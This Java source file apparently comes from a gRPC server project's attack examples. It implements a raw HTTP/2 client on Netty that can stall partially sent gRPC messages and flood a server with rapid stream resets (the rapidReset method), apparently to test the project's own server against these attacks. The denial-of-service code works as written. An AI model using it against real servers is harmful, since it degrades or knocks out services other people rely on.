/*
 * Licensed under the Apache License, Version 2.0.
 */
package dev.predictgrpc.examples.attack;

import io.grpc.Status;
import io.netty.bootstrap.Bootstrap;
import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import io.netty.channel.Channel;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.ChannelInitializer;
import io.netty.channel.ChannelOption;
import io.netty.channel.EventLoopGroup;
import io.netty.channel.MultiThreadIoEventLoopGroup;
import io.netty.channel.nio.NioIoHandler;
import io.netty.channel.socket.SocketChannel;
import io.netty.channel.socket.nio.NioSocketChannel;
import io.netty.handler.codec.http2.DefaultHttp2DataFrame;
import io.netty.handler.codec.http2.DefaultHttp2Headers;
import io.netty.handler.codec.http2.DefaultHttp2HeadersFrame;
import io.netty.handler.codec.http2.DefaultHttp2ResetFrame;
import io.netty.handler.codec.http2.DefaultHttp2WindowUpdateFrame;
import io.netty.handler.codec.http2.Http2ChannelDuplexHandler;
import io.netty.handler.codec.http2.Http2DataFrame;
import io.netty.handler.codec.http2.Http2Error;
import io.netty.handler.codec.http2.Http2FrameCodec;
import io.netty.handler.codec.http2.Http2FrameCodecBuilder;
import io.netty.handler.codec.http2.Http2FrameStream;
import io.netty.handler.codec.http2.Http2GoAwayFrame;
import io.netty.handler.codec.http2.Http2Headers;
import io.netty.handler.codec.http2.Http2HeadersFrame;
import io.netty.handler.codec.http2.Http2ResetFrame;
import io.netty.handler.codec.http2.Http2Settings;
import io.netty.util.ReferenceCountUtil;
import java.io.ByteArrayOutputStream;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.TimeUnit;
import org.jspecify.annotations.Nullable;

/**
 * An HTTP/2 connection that speaks gRPC frame by frame, below any gRPC library: it can open a call
 * and send part of a message and then nothing, or open and reset streams as fast as the socket
 * takes them. grpc-java's own client always finishes a message it starts and queues calls beyond
 * the server's stream limit, so it cannot make these attacks.
 *
 * <p>Built on Netty's HTTP/2 frame codec (the unshaded Netty on the examples' class path), with one
 * event-loop thread per connection. Thread-safe: frames written from any thread are queued to that
 * loop in order.
 */
public final class RawHttp2Connection implements AutoCloseable {
  /** The {@code Predict} method's HTTP/2 path. */
  public static final String PREDICT_PATH = "/predictgrpc.v1.PredictionService/Predict";

  /** The {@code PredictStream} method's HTTP/2 path. */
  public static final String PREDICT_STREAM_PATH =
      "/predictgrpc.v1.PredictionService/PredictStream";

  /** What the server said when it closed the connection (HTTP/2 GOAWAY). */
  public record GoAway(long errorCode, String debugData) {}

  private final EventLoopGroup group;
  private final Channel channel;
  private final Inbound inbound;
  private final String authority;
  private final Map<Http2FrameStream, RawCall> calls = new ConcurrentHashMap<>();
  private final CompletableFuture<GoAway> goAway = new CompletableFuture<>();
  private final CompletableFuture<Void> closed = new CompletableFuture<>();

  private RawHttp2Connection(
      EventLoopGroup group, Channel channel, Inbound inbound, String authority) {
    this.group = group;
    this.channel = channel;
    this.inbound = inbound;
    this.authority = authority;
  }

  /** Connects to {@code host:port} in plaintext (HTTP/2 with prior knowledge, as gRPC does). */
  public static RawHttp2Connection connect(String host, int port) throws InterruptedException {
    return connect(host, port, null);
  }

  /** As {@link #connect(String, int)}, from {@code localHost} (any port) unless it is null. */
  public static RawHttp2Connection connect(String host, int port, @Nullable String localHost)
      throws InterruptedException {
    EventLoopGroup group = new MultiThreadIoEventLoopGroup(1, NioIoHandler.newFactory());
    try {
      Http2FrameCodec codec =
          Http2FrameCodecBuilder.forClient()
              .initialSettings(Http2Settings.defaultSettings().initialWindowSize(1 << 20))
              .build();
      Inbound inbound = new Inbound();
      Channel channel =
          new Bootstrap()
              .group(group)
              .channel(NioSocketChannel.class)
              .option(ChannelOption.TCP_NODELAY, true)
              .handler(
                  new ChannelInitializer<SocketChannel>() {
                    @Override
                    protected void initChannel(SocketChannel ch) {
                      ch.pipeline().addLast(codec, inbound);
                    }
                  })
              .connect(
                  new InetSocketAddress(host, port),
                  localHost == null ? null : new InetSocketAddress(localHost, 0))
              .sync()
              .channel();
      RawHttp2Connection connection =
          new RawHttp2Connection(group, channel, inbound, host + ":" + port);
      inbound.connection = connection;
      channel.closeFuture().addListener(f -> connection.onClosed());
      return connection;
    } catch (InterruptedException | RuntimeException e) {
      group.shutdownGracefully(0, 1, TimeUnit.SECONDS);
      throw e;
    }
  }

  /**
   * Opens a gRPC call: sends its HEADERS frame, without ending the stream. What follows is up to
   * the caller.
   */
  public RawCall openCall(String path) {
    Http2FrameStream stream = inbound.newStream();
    RawCall call = new RawCall(this, stream);
    calls.put(stream, call);
    channel.writeAndFlush(new DefaultHttp2HeadersFrame(requestHeaders(path), false).stream(stream));
    return call;
  }

  /**
   * Opens and at once resets (RST_STREAM CANCEL) up to {@code count} streams, in bursts of 100 so
   * that the server's answer can be noticed between them, and stops early when the server sends
   * GOAWAY or closes the connection, or after {@code timeout}.
   *
   * @return how many streams were opened and reset
   */
  public int rapidReset(String path, int count, Duration timeout) throws InterruptedException {
    long deadline = System.nanoTime() + timeout.toNanos();
    int sent = 0;
    while (sent < count && !goAway.isDone() && channel.isActive()) {
      if (System.nanoTime() > deadline) {
        break;
      }
      int burst = Math.min(100, count - sent);
      CompletableFuture<Void> written = new CompletableFuture<>();
      channel
          .eventLoop()
          .execute(
              () -> {
                for (int i = 0; i < burst && channel.isActive(); i++) {
                  Http2FrameStream stream = inbound.newStream();
                  channel.write(
                      new DefaultHttp2HeadersFrame(requestHeaders(path), false).stream(stream));
                  channel.write(new DefaultHttp2ResetFrame(Http2Error.CANCEL).stream(stream));
                }
                channel.flush();
                written.complete(null);
              });
      try {
        written.get(timeout.toNanos(), TimeUnit.NANOSECONDS);
      } catch (java.util.concurrent.ExecutionException | java.util.concurrent.TimeoutException e) {
        break;
      }
      sent += burst;
    }
    return sent;
  }

  /**
   * Completes when the server's GOAWAY is read. A server that closes the connection right after
   * sending it, while this side still has bytes in flight, makes the kernel reset the connection,
   * and the GOAWAY may then be lost: see {@link #closed()}.
   */
  public CompletableFuture<GoAway> goAway() {
    return goAway;
  }

  /** Completes when the connection is closed, by either side. */
  public CompletableFuture<Void> closed() {
    return closed;
  }

  /** Whether the TCP connection is still open. */
  public boolean isOpen() {
    return channel.isActive();
  }

  /** Closes the connection and its event loop. */
  @Override
  public void close() {
    channel.close().awaitUninterruptibly(5, TimeUnit.SECONDS);
    group.shutdownGracefully(0, 1, TimeUnit.SECONDS).awaitUninterruptibly(5, TimeUnit.SECONDS);
  }

  private Http2Headers requestHeaders(String path) {
    return new DefaultHttp2Headers()
        .method("POST")
        .scheme("http")
        .path(path)
        .authority(authority)
        .add("content-type", "application/grpc")
        .add("te", "trailers");
  }

  private void onClosed() {
    Status gone = Status.UNAVAILABLE.withDescription("the connection closed");
    calls.values().forEach(call -> call.status.complete(gone));
    closed.complete(null);
  }

  /** Writes one DATA frame for a call; used by {@link RawCall}. */
  void writeData(Http2FrameStream stream, ByteBuf data, boolean endStream) {
    channel.writeAndFlush(new DefaultHttp2DataFrame(data, endStream).stream(stream));
  }

  void reset(Http2FrameStream stream) {
    channel.writeAndFlush(new DefaultHttp2ResetFrame(Http2Error.CANCEL).stream(stream));
  }

  /**
   * Frames {@code message} as one gRPC message: a flag byte (0, uncompressed), its length as four
   * big-endian bytes, then the message.
   */
  public static byte[] grpcFrame(byte[] message) {
    byte[] framed = new byte[5 + message.length];
    int length = message.length;
    framed[1] = (byte) (length >>> 24);
    framed[2] = (byte) (length >>> 16);
    framed[3] = (byte) (length >>> 8);
    framed[4] = (byte) length;
    System.arraycopy(message, 0, framed, 5, message.length);
    return framed;
  }

  /** Reads frames from the server: statuses, resets, GOAWAY; consumes and drops response data. */
  private static final class Inbound extends Http2ChannelDuplexHandler {
    private volatile @Nullable RawHttp2Connection connection;

    @Override
    public void channelRead(ChannelHandlerContext ctx, Object msg) {
      try {
        RawHttp2Connection conn = connection;
        if (conn == null) {
          return;
        }
        if (msg instanceof Http2GoAwayFrame) {
          Http2GoAwayFrame frame = (Http2GoAwayFrame) msg;
          conn.goAway.complete(
              new GoAway(frame.errorCode(), frame.content().toString(StandardCharsets.UTF_8)));
        } else if (msg instanceof Http2HeadersFrame) {
          Http2HeadersFrame frame = (Http2HeadersFrame) msg;
          RawCall call = conn.calls.get(frame.stream());
          if (call != null) {
            call.onHeaders(frame.headers(), frame.isEndStream());
          }
        } else if (msg instanceof Http2ResetFrame) {
          Http2ResetFrame frame = (Http2ResetFrame) msg;
          RawCall call = conn.calls.get(frame.stream());
          if (call != null) {
            call.onReset(frame.errorCode());
          }
        } else if (msg instanceof Http2DataFrame) {
          Http2DataFrame frame = (Http2DataFrame) msg;
          // Give the bytes back to the server's send window: this client reads everything.
          if (frame.initialFlowControlledBytes() > 0) {
            ctx.writeAndFlush(
                new DefaultHttp2WindowUpdateFrame(frame.initialFlowControlledBytes())
                    .stream(frame.stream()));
          }
        }
      } finally {
        ReferenceCountUtil.release(msg);
      }
    }

    @Override
    public void exceptionCaught(ChannelHandlerContext ctx, Throwable cause) {
      ctx.close(); // The server broke the connection; closed() and the calls' statuses say so.
    }
  }

  /**
   * One call on a {@link RawHttp2Connection}: send DATA when and as much as you like, or reset it.
   * Thread-safe.
   */
  public static final class RawCall {
    private final RawHttp2Connection connection;
    private final Http2FrameStream stream;
    private final CompletableFuture<Status> status = new CompletableFuture<>();

    private RawCall(RawHttp2Connection connection, Http2FrameStream stream) {
      this.connection = connection;
      this.stream = stream;
    }

    /**
     * Sends {@code bytes} as DATA (HTTP/2 flow control paces them), optionally ending the input.
     */
    public RawCall data(byte[] bytes, int offset, int length, boolean endStream) {
      connection.writeData(stream, Unpooled.wrappedBuffer(bytes, offset, length), endStream);
      return this;
    }

    /** Resets the stream (RST_STREAM CANCEL). */
    public void reset() {
      connection.reset(stream);
    }

    /**
     * The call's status: from the server's trailers (grpc-status and grpc-message), or made up from
     * a RST_STREAM or a closed connection the way gRPC clients report them.
     */
    public CompletableFuture<Status> status() {
      return status;
    }

    void onHeaders(Http2Headers headers, boolean endStream) {
      CharSequence code = headers.get("grpc-status");
      if (code != null) {
        CharSequence message = headers.get("grpc-message");
        Status result = Status.fromCodeValue(Integer.parseInt(code.toString()));
        status.complete(message == null ? result : result.withDescription(percentDecode(message)));
      } else if (endStream) {
        status.complete(Status.UNKNOWN.withDescription("the response ended without a status"));
      }
    }

    void onReset(long errorCode) {
      Status.Code code =
          errorCode == Http2Error.CANCEL.code()
              ? Status.Code.CANCELLED
              : errorCode == Http2Error.REFUSED_STREAM.code()
                  ? Status.Code.UNAVAILABLE
                  : Status.Code.INTERNAL;
      status.complete(code.toStatus().withDescription("RST_STREAM with error code " + errorCode));
    }

    /** gRPC percent-encodes grpc-message as UTF-8. */
    private static String percentDecode(CharSequence encoded) {
      ByteArrayOutputStream out = new ByteArrayOutputStream(encoded.length());
      for (int i = 0; i < encoded.length(); i++) {
        char c = encoded.charAt(i);
        if (c == '%' && i + 2 < encoded.length()) {
          out.write(Integer.parseInt(encoded.subSequence(i + 1, i + 3).toString(), 16));
          i += 2;
        } else {
          out.write(c);
        }
      }
      return out.toString(StandardCharsets.UTF_8);
    }
  }
}
